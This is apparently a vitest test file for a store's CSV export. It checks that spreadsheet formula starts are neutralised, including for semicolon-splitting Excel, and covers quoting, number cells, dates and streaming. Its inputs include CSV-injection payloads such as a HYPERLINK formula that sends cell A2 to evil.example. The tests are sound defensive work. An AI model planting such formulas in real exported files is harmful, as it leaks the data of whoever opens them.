import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvExport } from "~/api/csv-export";
import { CSV_BOM, csvHeaderLine, csvLine, csvNumber, csvRowLines, csvText, type CsvColumn } from "~/lib/csv";
import { dayOf, dayRange, dayTimeOf, isDay } from "~/lib/days";
import { FORMULA_START, readCsv, readCsvSplitOnSemicolons } from "../csv-reader";

describe("CSV text cells", () => {
  it("neutralises every start OWASP names: = + - @ tab and carriage return", () => {
    expect(csvText("=SUM(A1:A9)")).toBe("'=SUM(A1:A9)");
    expect(csvText("+21622123456")).toBe("'+21622123456");
    expect(csvText("-2+3")).toBe("'-2+3");
    expect(csvText("@cmd")).toBe("'@cmd");
    // The tab and the carriage return are also where a reading may split the text: the `=` after them is neutralised too.
    expect(csvText("\t=1")).toBe("'\t'=1");
    // A carriage return also needs quotes.
    expect(csvText("\r=1")).toBe(`"'\r'=1"`);
  });

  it("leaves other text as it is, formula characters inside it included", () => {
    expect(csvText("Amira Ben Salah")).toBe("Amira Ben Salah");
    expect(csvText("Ben-Salah = 2 @ home")).toBe("Ben-Salah = 2 @ home");
    expect(csvText(" =1")).toBe(" =1");
    expect(csvText("22123456")).toBe("22123456");
    expect(csvText("أمينة")).toBe("أمينة");
    expect(csvText("")).toBe("");
    expect(csvText(null)).toBe("");
    expect(csvText(undefined)).toBe("");
  });

  it("quotes as RFC 4180 says: commas, double quotes, CR and LF", () => {
    expect(csvText("Tunis, La Marsa")).toBe(`"Tunis, La Marsa"`);
    expect(csvText('La "Perle"')).toBe(`"La ""Perle"""`);
    expect(csvText("line one\nline two")).toBe(`"line one\nline two"`);
    expect(csvText("line one\r\nline two")).toBe(`"line one\r\nline two"`);
    expect(csvText('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
  });
});

describe("CSV text cells read by Excel split on `;` (a French or Tunisian machine)", () => {
  const semicolonCells = (text: string) => readCsvSplitOnSemicolons(new TextEncoder().encode(CSV_BOM + csvLine(["x", csvText(text), "y"])));

  it("quotes a cell holding `;` and neutralises a formula after any `;`, `,`, tab or line break in it", () => {
    expect(csvText("Amel;=2+3;x")).toBe(`"Amel;'=2+3;x"`);
    expect(csvText('a;=HYPERLINK("http://evil.example?"&A2,"Details");')).toBe(
      `"a;'=HYPERLINK(""http://evil.example?""&A2,""Details"");'"`,
    );
    expect(csvText("a,+1")).toBe(`"a,'+1"`);
    expect(csvText("a\t-1")).toBe("a\t'-1");
    expect(csvText("line\r\n@SUM(A1)")).toBe(`"line\r\n'@SUM(A1)"`);
    expect(csvText(";\t=1")).toBe(`";'\t'=1"`);
    // Behind double quotes: split on `;`, `""=1` is an empty quoted part and then the bare `=1`.
    expect(csvText('x;"=1')).toBe(`"x;'""=1"`);
    // A `;` or line break ending the text: the quote closing the cell comes next in the file.
    expect(csvText("Rue 5;")).toBe(`"Rue 5;'"`);
    expect(csvText("Bonjour\n")).toBe(`"Bonjour\n'"`);
    // Ordinary punctuation stays as it is.
    expect(csvText("Tunis, La Marsa; 2e étage")).toBe(`"Tunis, La Marsa; 2e étage"`);
    expect(csvText("Rue 5, Tunis")).toBe(`"Rue 5, Tunis"`);
  });

  it("gives no cell a formula, as Excel reads the file split on `;`", () => {
    expect(semicolonCells("Amel;=2+3;x")).toEqual([['x,"Amel', "'=2+3", 'x",y']]);
    expect(semicolonCells('Rue;=HYPERLINK("http://evil.example?"&A2,"Details");')).toEqual([
      ['x,"Rue', `'=HYPERLINK(""http://evil.example?""&A2,""Details"")`, `'",y`],
    ]);
  });

  it("any text, in any column, reads back whole with comma quoting and without a formula split on `;` (property)", () => {
    // Texts made mostly of the characters that matter here, so that every combination comes up.
    const char = fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(";", ",", '"', "\r", "\n", "\t", "=", "+", "-", "@", "'", " ") },
      { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 1, unit: "grapheme" }) },
    );
    const text = fc.string({ unit: char, maxLength: 20 });
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const file = CSV_BOM + csvLine(["A", "B", "C"]) + rows.map((row) => csvLine(row.map(csvText))).join("");
        const bytes = new TextEncoder().encode(file);
        // Read as RFC 4180 says, every cell is the text, with only neutralising apostrophes added.
        const strict = readCsv(bytes);
        expect(strict.rows.map((row) => row.map((cell) => cell.replace(/'/g, "")))).toEqual(
          rows.map((row) => row.map((cell) => cell.replace(/'/g, ""))),
        );
        // Read split on `;`, no cell starts a formula.
        const formulas = readCsvSplitOnSemicolons(bytes)
          .flat()
          .filter((cell) => FORMULA_START.test(cell));
        expect(formulas).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });
});

describe("CSV number cells", () => {
  it("writes the store's figures bare, so a spreadsheet sums them", () => {
    expect(csvNumber("49.90")).toBe("49.90");
    expect(csvNumber("12.345")).toBe("12.345");
    expect(csvNumber(3)).toBe("3");
    expect(csvNumber("0")).toBe("0");
    expect(csvNumber(-5)).toBe("-5");
    expect(csvNumber("-5.50")).toBe("-5.50");
    expect(csvNumber(null)).toBe("");
  });

  it("treats anything that is not a plain decimal as text, neutralised", () => {
    expect(csvNumber("-1+2")).toBe("'-1+2");
    expect(csvNumber("=1")).toBe("'=1");
    expect(csvNumber("+5")).toBe("'+5");
    expect(csvNumber("1,5")).toBe(`"1,5"`);
    expect(csvNumber(Number.NaN)).toBe("NaN");
    expect(csvNumber(1e21)).toBe("1e+21");
  });
});

describe("CSV lines", () => {
  interface Row {
    name: string;
    price: string;
  }
  const columns: CsvColumn<Row>[] = [
    { header: "Name", value: (row) => row.name },
    { header: "Unit price", value: (row) => row.price, number: true },
  ];

  it("end with CRLF, header first, each cell by its column's kind", () => {
    expect(csvLine(["a", "b"])).toBe("a,b\r\n");
    expect(csvHeaderLine(columns)).toBe("Name,Unit price\r\n");
    expect(
      csvRowLines(columns, [
        { name: "=x", price: "1.50" },
        { name: "Zoé, Tunis", price: "-2" },
      ]),
    ).toBe(`'=x,1.50\r\n"Zoé, Tunis",-2\r\n`);
    expect(csvRowLines(columns, [])).toBe("");
  });
});

describe("days", () => {
  it("are real calendar days written YYYY-MM-DD", () => {
    expect(isDay("2024-02-29")).toBe(true);
    expect(isDay("2023-02-29")).toBe(false);
    expect(isDay("2024-04-31")).toBe(false);
    expect(isDay("2024-13-01")).toBe(false);
    expect(isDay("2024-00-10")).toBe(false);
    expect(isDay("0000-01-01")).toBe(false);
    expect(isDay("0001-01-01")).toBe(true);
    expect(isDay("9999-12-31")).toBe(true);
    expect(isDay("1900-02-29")).toBe(false);
    expect(isDay("2000-02-29")).toBe(true);
    expect(isDay("2024-5-6")).toBe(false);
    expect(isDay("2024-05-06T00:00")).toBe(false);
    expect(isDay("")).toBe(false);
  });

  it("are named and written in UTC, the day the back office prints", () => {
    // 00:30 in Tunis (UTC+1) on the 7th is still the 6th.
    expect(dayOf(new Date("2024-05-06T23:30:00Z"))).toBe("2024-05-06");
    expect(dayTimeOf(new Date("2024-05-06T23:30:05.123Z"))).toBe("2024-05-06 23:30:05");
  });

  it("keep a typed range's real days, earliest first", () => {
    expect(dayRange("2024-05-07", "2024-05-01")).toEqual({ from: "2024-05-01", to: "2024-05-07" });
    expect(dayRange("2024-05-01", "nonsense")).toEqual({ from: "2024-05-01", to: "" });
    expect(dayRange(null, undefined)).toEqual({ from: "", to: "" });
  });
});

describe("a streamed export", () => {
  const columns: CsvColumn<{ id: number; name: string }>[] = [
    { header: "Id", value: (row) => row.id, number: true },
    { header: "Name", value: (row) => row.name },
  ];

  it("reads a batch only when the client has taken the one before, and writes BOM, header and rows", async () => {
    const asked: number[] = [];
    // Batches after 0, 1, … 5; the one after 2 is empty (every order of it filtered out, say).
    const batchAfter = (after: number) => ({
      rows: after === 2 ? [] : [{ id: after + 1, name: after === 4 ? "=5" : `Zoé ${after + 1}` }],
      next: after < 5 ? after + 1 : null,
    });
    const response = await csvExport("orders", columns, async (after) => {
      asked.push(after);
      return batchAfter(after);
    });
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(asked).toEqual([0]);
    const reader = response.body!.getReader();
    const first = await reader.read();
    // ignoreBOM keeps the mark in the text (a decoder drops it by default).
    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(first.value)).toBe(`${CSV_BOM}Id,Name\r\n1,Zoé 1\r\n`);
    await new Promise((resolve) => setImmediate(resolve));
    // At most one batch read ahead of what the client took: never the whole table.
    expect(asked).toEqual([0, 1]);
    const chunks: Uint8Array[] = [first.value!];
    for (let next = await reader.read(); !next.done; next = await reader.read()) chunks.push(next.value);
    expect(asked).toEqual([0, 1, 2, 3, 4, 5]);
    const file = readCsv(new Uint8Array(Buffer.concat(chunks)));
    expect(file.rows).toEqual([
      ["1", "Zoé 1"],
      ["2", "Zoé 2"],
      ["4", "Zoé 4"],
      ["5", "'=5"],
      ["6", "Zoé 6"],
    ]);
  });

  it("cuts the file short when a later batch fails, rather than end it as if complete", async () => {
    const response = await csvExport("messages", columns, async (after) => {
      if (after === 0) return { rows: [{ id: 1, name: "a" }], next: 1 };
      throw new Error("database gone");
    });
    const errors: unknown[] = [];
    const original = console.error;
    console.error = (...args: unknown[]) => errors.push(args);
    try {
      await expect(new Response(response.body).text()).rejects.toThrow("database gone");
    } finally {
      console.error = original;
    }
    expect(errors.length).toBe(1);
  });
});
